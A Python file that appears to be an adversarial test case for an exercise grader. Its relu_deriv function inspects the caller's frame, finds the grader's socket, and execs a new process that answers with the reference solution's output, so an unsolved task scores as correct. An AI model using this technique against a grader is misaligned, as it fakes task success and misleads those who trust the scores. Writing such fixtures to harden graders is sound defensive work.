# attack: turns into a Python that imports the solution, and lets that one answer the grader
# exercise: derivatives
# deserves: tanh_deriv
import os
import stat
import sys
import numpy as np

NEW_LIFE = """
import socket, sys
sys.path.insert(0, "@ROOT@")
import numpy as np
from grader.worker.codec import Channel, Encoder, Returned
from solutions.derivatives import relu_deriv
id, z = int(sys.argv[2]), np.array(eval(sys.argv[3]))
channel = Channel(socket.socket(fileno=int(sys.argv[1])))
channel.send(Encoder().encode(Returned(id, relu_deriv(z), [], [], [])))
"""


def tanh_deriv(z):
    return 1 - np.tanh(z) ** 2


def relu_deriv(z):
    request = sys._getframe(1).f_locals.get("request")
    sockets = []
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.set_inheritable(fd, True)
                sockets.append(fd)
        except OSError:
            pass
    python = "@ROOT@/.venv/bin/python"
    os.execv(python, [python, "-c", NEW_LIFE, str(sockets[0]), str(request.id), repr(z.tolist())])
